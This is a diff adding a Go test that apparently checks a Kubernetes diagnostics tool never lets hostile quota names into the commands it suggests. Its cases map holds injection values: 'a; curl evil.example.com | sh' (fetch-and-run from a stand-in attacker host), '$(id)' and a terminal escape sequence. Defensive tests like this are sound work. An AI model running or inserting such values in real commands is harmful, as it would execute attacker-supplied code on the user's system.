@@ -148,3 +148,36 @@ func TestExplainUnclear(t *testing.T) {
 		explain.Explain(f)
 	}
 }
+
+// TestExplainQuota: what others wrote is no part of a command that is to be run.
+func TestExplainQuota(t *testing.T) {
+	cases := map[string]struct {
+		reason, quota string
+		want          bool
+	}{
+		"Quota":    {reason: "A quota's name is.", quota: "team-small", want: true},
+		"Command":  {reason: "An admission webhook may write anything.", quota: "a; curl evil.example.com | sh"},
+		"Variable": {reason: "A shell would replace it.", quota: "$(id)"},
+		"Terminal": {reason: "A terminal would obey it.", quota: "a\u009b2Jb"},
+	}
+	for name, tc := range cases {
+		t.Run(name, func(t *testing.T) {
+			f := read(t, "testdata/quota.yaml")
+			for i := range f.Events {
+				f.Events[i].Message = strings.ReplaceAll(f.Events[i].Message, "exceeded quota: services", "exceeded quota: "+tc.quota)
+			}
+			e := explain.Explain(f)
+			if e.Cause == nil || len(e.Cause.Do) == 0 {
+				t.Fatalf("want something to do, got %v", e.Cause)
+			}
+			for _, do := range e.Cause.Do {
+				if got := strings.Contains(do, "describe resourcequota "+tc.quota); got != tc.want {
+					t.Errorf("%s\nwant the quota in it: %t, got %q", tc.reason, tc.want, do)
+				}
+				if strings.ContainsAny(do, "\n;$|\u009b") {
+					t.Errorf("%s\ngot %q", tc.reason, do)
+				}
+			}
+		})
+	}
+}
